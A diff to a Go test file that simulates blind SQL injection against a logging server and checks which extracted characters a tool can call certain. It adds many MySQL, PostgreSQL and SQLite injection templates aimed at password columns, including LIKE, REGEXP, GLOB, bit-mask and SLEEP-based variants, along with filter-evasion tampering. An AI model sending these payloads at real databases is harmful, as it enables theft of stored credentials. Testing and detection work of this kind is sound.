@@ -27,6 +27,7 @@ type way struct {
 	loose   bool // what is not excluded beyond the codes that were asked for keeps characters from being certain
 	folded  bool // equality without case: letters come out in one of two cases
 	charset string
+	escape  bool   // signs go into classes
 	length  string // a question about the length, %[1]s and %[2]d
 }
 
@@ -49,7 +50,7 @@ type oracle struct {
 	delay   time.Duration
 	drop    float64
 	others  bool
-	cached  map[string]bool
+	cached  map[string]int64 // size of the answers that a cache in front has
 }
 
 func newOracle(rng *rand.Rand, w *way) *oracle {
@@ -112,6 +113,14 @@ func (o *oracle) send(cond string, truth bool) bool {
 	if o.noise > 0 {
 		size += int64(o.rng.IntN(o.noise))
 	}
+	if o.cached != nil && o.rng.IntN(8) == 0 { // the client asks again, and what is stored comes at once
+		if old, ok := o.cached[payload]; ok {
+			o.entry(o.client, "id="+payload+"&page=2", answer[0], old, 3*time.Millisecond)
+		}
+	}
+	if o.cached != nil {
+		defer func() { o.cached[payload] = size }()
+	}
 	o.entry(o.client, "id="+payload+"&page=2", answer[0], size, took)
 	o.now = o.now.Add(time.Duration(10+o.rng.IntN(60)) * time.Millisecond)
 	return truth
@@ -147,6 +156,7 @@ func (o *oracle) tampered(s string) string {
 			return string(c)
 		})
 	case 2:
+		s = strings.ReplaceAll(s, "+", "%2B")
 		s = outsideQuotes(s, strings.Contains(o.w.wrap[:min(2, len(o.w.wrap))], "'"), func(c byte) string {
 			if c == ' ' {
 				return []string{"/**/", "%09", "%0a", "/*x*/", "+"}[o.rng.IntN(5)]
@@ -210,6 +220,26 @@ func byBisection(w *way, o *oracle) {
 	}
 }
 
+// byRight bisects what gives the last character beyond the end, up to the length or, without one, too far.
+func byRight(w *way, o *oracle) {
+	n := len(o.secret) + 3
+	if o.rng.IntN(2) == 0 || o.drop == 0 {
+		for n = 1; !o.send(fmt.Sprintf(w.length, o.expr, n), n == len(o.secret)); n++ {
+		}
+	}
+	for pos := 1; pos <= n; pos++ {
+		lo, hi := 0, 127
+		for lo < hi {
+			mid := (lo + hi) / 2
+			if o.send(fmt.Sprintf(w.test, o.expr, pos, mid), int(o.secret[min(pos, len(o.secret))-1]) > mid) {
+				lo = mid + 1
+			} else {
+				hi = mid
+			}
+		}
+	}
+}
+
 // byScan tries each character of an alphabet for equality; the end is where none fits, after the length is known.
 func byScan(w *way, o *oracle) {
 	for n := 1; w.length != ""; n++ {
@@ -247,6 +277,65 @@ func byBits(w *way, o *oracle) {
 	}
 }
 
+// byPrefix grows a known prefix by one character at a time.
+func byPrefix(w *way, o *oracle) {
+	alphabet := "etaoinsrhdlucmfywgpbvkxqjz0123456789@.-$ /#"
+	known := ""
+	for pos := 1; pos <= len(o.secret); pos++ {
+		for i := 0; i < len(alphabet); i++ {
+			c, want := alphabet[i], o.secret[pos-1]
+			hit := c == want || w.folded && c|0x20 == want|0x20 && c >= 'a' && c <= 'z'
+			shown := string(c)
+			if w.escape && strings.Contains(".$/-", shown) {
+				shown = "[" + shown + "]"
+			}
+			if o.send(fmt.Sprintf(w.test, o.expr, known+shown, pos), hit) {
+				known += shown
+				break
+			}
+		}
+	}
+	if w.equal != "" {
+		o.send(fmt.Sprintf(w.equal, o.expr, known), true)
+	}
+}
+
+// byClass halves a class of characters after a known prefix.
+func byClass(w *way, o *oracle) {
+	known := ""
+	for pos := 1; pos <= len(o.secret); pos++ {
+		set := []byte("abcdefghijklmnopqrstuvwxyz0123456789@_")
+		for len(set) > 1 {
+			half := set[:len(set)/2]
+			hit := strings.IndexByte(string(half), o.secret[pos-1]) >= 0
+			if o.send(fmt.Sprintf(w.test, o.expr, known+"["+string(half)+"]"), hit) {
+				set = half
+			} else {
+				set = set[len(set)/2:]
+			}
+		}
+		known += string(set)
+	}
+	o.send(fmt.Sprintf(w.equal, o.expr, known), true)
+}
+
+// byString bisects with the order of strings over letters and digits, and checks each.
+func byString(w *way, o *oracle) {
+	order := "0123456789abcdefghijklmnopqrstuvwxyz"
+	for pos := 1; pos <= len(o.secret); pos++ {
+		lo, hi := 0, len(order)-1
+		for lo < hi {
+			mid := (lo + hi) / 2
+			if o.send(fmt.Sprintf(w.test, o.expr, pos, string(order[mid])), o.secret[pos-1] > order[mid]) {
+				lo = mid + 1
+			} else {
+				hi = mid
+			}
+		}
+		o.send(fmt.Sprintf(w.equal, o.expr, pos, string(order[lo])), true)
+	}
+}
+
 const (
 	mysqlCell = "(SELECT pw FROM shop.users ORDER BY id LIMIT %d,1)"
 	mysqlWant = "SELECT pw FROM shop.users ORDER BY id LIMIT %d, 1"
@@ -263,12 +352,25 @@ var ways = []way{
 	{name: "mysql if", expr: mysqlCell, want: mysqlWant, ask: byBisection, test: "ORD(SUBSTR(%[1]s,%[2]d,1))>%[3]v", wrap: "IF(%s,3,(SELECT 1 UNION SELECT 2))", base: ""},
 	{name: "mysql rlike case", expr: mysqlCell, want: mysqlWant, ask: byBisection, test: "ORD(MID(%[1]s,%[2]d,1))>%[3]v", wrap: " RLIKE (SELECT (CASE WHEN (%s) THEN 0x33 ELSE 0x28 END))", base: "3"},
 	{name: "mysql right left", expr: mysqlCell, want: mysqlWant, ask: byBisection, test: "ASCII(RIGHT(LEFT(CONCAT(%[1]s,CHAR(0)),%[2]d),1))>%[3]v", wrap: " AND %s", base: "3"},
+	{name: "mysql last of the first", expr: mysqlCell, want: mysqlWant, ask: byRight, test: "ASCII(RIGHT(LEFT(%[1]s,%[2]d),1))>%[3]v", wrap: " AND %s", base: "3", length: "LENGTH(%[1]s)=%[2]d"},
 	{name: "mysql bits", expr: mysqlCell, want: mysqlWant, ask: byBits, loose: true, test: "ASCII(SUBSTR(%[1]s,%[2]d,1))&%[3]v", wrap: " AND %s", base: "3"},
 	{name: "mysql bits >0", expr: mysqlCell, want: mysqlWant, ask: byBits, loose: true, test: "(ASCII(SUBSTR(%[1]s,%[2]d,1))&%[3]v)>0", wrap: "' AND %s-- ", base: "x"},
 	{name: "mysql = char", expr: mysqlCell, want: mysqlWant, ask: byScan, test: "SUBSTR(%[1]s,%[2]d,1)='%[3]s'", folded: true, wrap: " AND %s", base: "3", length: "LENGTH(%[1]s)=%[2]d"},
 	{name: "mysql binary =", expr: mysqlCell, want: mysqlWant, ask: byScan, test: "BINARY SUBSTR(%[1]s,%[2]d,1)=CHAR(%[3]v)", wrap: "' AND %s AND '1'='1", base: "a", length: "CHAR_LENGTH(%[1]s)=%[2]d"},
 	{name: "mysql ascii = scan", expr: mysqlCell, want: mysqlWant, ask: byScan, test: "ASCII(SUBSTR(%[1]s,%[2]d,1))=%[3]v", wrap: " AND %s", base: "3", length: "LENGTH(%[1]s)=%[2]d"},
 	{name: "mysql in", expr: mysqlCell, want: mysqlWant, ask: byScan, test: "ASCII(SUBSTR(%[1]s,%[2]d,1)) IN (%[3]v)", wrap: " AND %s", base: "3", length: "LENGTH(%[1]s)=%[2]d"},
+	{name: "mysql like", expr: mysqlCell, want: mysqlWant, ask: byPrefix, charset: "abcdefghijklmnopqrstuvwxyz0123456789@.-", folded: true, test: "%[1]s LIKE '%[2]s%%'", equal: "%[1]s LIKE '%[2]s'", wrap: " AND %s", base: "3"},
+	{name: "mysql left =", expr: mysqlCell, want: mysqlWant, ask: byPrefix, charset: "abcdefghijklmnopqrstuvwxyz0123456789@.-", folded: true, test: "LEFT(%[1]s,%[3]d)='%[2]s'", wrap: "' AND %s-- -", base: "x"},
+	{name: "mysql regexp", expr: mysqlCell, want: mysqlWant, ask: byPrefix, charset: "abcdefghijklmnopqrstuvwxyz0123456789@.-", folded: true, escape: true, test: "%[1]s REGEXP '^%[2]s'", wrap: " AND %s", base: "3"},
+	{name: "mysql regexp binary classes", expr: mysqlCell, want: mysqlWant, ask: byClass, charset: "abcdefghijklmnopqrstuvwxyz0123456789@_", test: "%[1]s REGEXP BINARY '^%[2]s'", equal: "%[1]s REGEXP BINARY '^%[2]s$'", wrap: " AND %s", base: "3"},
+	{name: "postgres ~ classes", expr: "(SELECT pw FROM users ORDER BY id OFFSET %d LIMIT 1)", ask: byClass, charset: "abcdefghijklmnopqrstuvwxyz0123456789@_", test: "%[1]s ~ '^%[2]s'", equal: "%[1]s ~ '^%[2]s$'", wrap: "' AND CASE WHEN %s THEN true ELSE CAST(version() AS INT)=1 END--", base: "3"},
+	{name: "sqlite glob", expr: "(SELECT sql FROM sqlite_master LIMIT %d,1)", ask: byPrefix, charset: "abcdefghijklmnopqrstuvwxyz0123456789@.-", test: "%[1]s GLOB '%[2]s*'", equal: "%[1]s GLOB '%[2]s'", wrap: " AND %s", base: "3"},
+	{name: "postgres like", expr: "(SELECT pw FROM pg_catalog.pg_user OFFSET %d LIMIT 1)", ask: byPrefix, charset: "abcdefghijklmnopqrstuvwxyz0123456789@.-", test: "%[1]s LIKE '%[2]s%%'", equal: "%[1]s='%[2]s'", wrap: "' AND %s--", base: "3"},
+	{name: "mysql string order", expr: mysqlCell, want: mysqlWant, ask: byString, charset: "abcdefghijklmnopqrstuvwxyz0123456789", folded: true, test: "MID(%[1]s,%[2]d,1)>'%[3]s'", equal: "MID(%[1]s,%[2]d,1)='%[3]s'", wrap: "' AND %s AND '1", base: "3"},
+	{name: "mysql strcmp", expr: mysqlCell, want: mysqlWant, ask: byScan, test: "STRCMP(ORD(MID(%[1]s,%[2]d,1)),%[3]v)=0", wrap: " AND %s", base: "3", length: "LENGTH(%[1]s)=%[2]d"},
+	{name: "mysql find_in_set", expr: mysqlCell, want: mysqlWant, ask: byScan, test: "FIND_IN_SET(ASCII(MID(%[1]s,%[2]d,1)),'%[3]v')", wrap: " AND %s", base: "3", length: "LENGTH(%[1]s)=%[2]d"},
+	{name: "mysql hex of character", expr: mysqlCell, want: mysqlWant, ask: byBisection, loose: true, test: "CONV(HEX(SUBSTR(%[1]s,%[2]d,1)),16,10)>%[3]v", wrap: " AND %s", base: "3"},
+	{name: "mysql shifted bits", expr: mysqlCell, want: mysqlWant, ask: byBits, loose: true, test: "ASCII(SUBSTR(%[1]s,%[2]d,1))&%[3]v=%[3]v", wrap: " AND %s", base: "3"},
 	{name: "mysql sleep if", expr: mysqlCell, want: mysqlWant, ask: byBisection, test: "ASCII(SUBSTR(%[1]s,%[2]d,1))>%[3]v", equal: "ASCII(SUBSTR(%[1]s,%[2]d,1))=%[3]v", wrap: " AND IF(%s,SLEEP(SECS),0)", base: "3", time: true},
 	{name: "mysql sleep arithmetic", expr: mysqlCell, want: mysqlWant, ask: byBisection, test: "ORD(MID(%[1]s,%[2]d,1))>%[3]v", equal: "ORD(MID(%[1]s,%[2]d,1))=%[3]v", wrap: "' AND (SELECT 7 FROM (SELECT(SLEEP(SECS-(IF(%s,0,SECS)))))x)-- -", base: "3", time: true},
 	{name: "postgres ascii", expr: "(SELECT COALESCE(pw::text,CHR(32)) FROM users OFFSET %d LIMIT 1)", want: "SELECT pw FROM users LIMIT %d, 1", ask: byBisection, test: "ASCII(SUBSTRING(%[1]s FROM %[2]d FOR 1))>%[3]v", wrap: "' AND %s--", base: "a"},
@@ -358,7 +460,7 @@ func TestOracleComplete(t *testing.T) {
 // Whatever is lost, late, stored or mixed: what is called certain is true.
 func TestOracleNoise(t *testing.T) {
 	certain := 0
-	rounds := uint64(6)
+	rounds := uint64(3)
 	if testing.Short() {
 		rounds = 1
 	}
@@ -373,6 +475,9 @@ func TestOracleNoise(t *testing.T) {
 				o.jitter = []float64{0, 0.01, 0.03}[rng.IntN(3)]
 			} else {
 				o.noise = []int{0, 5, 60, 900}[rng.IntN(4)]
+			}
+			if seed%5 == 0 {
+				o.cached = map[string]int64{}
 			}
 			if rng.IntN(3) > 0 {
 				o.calibrate()
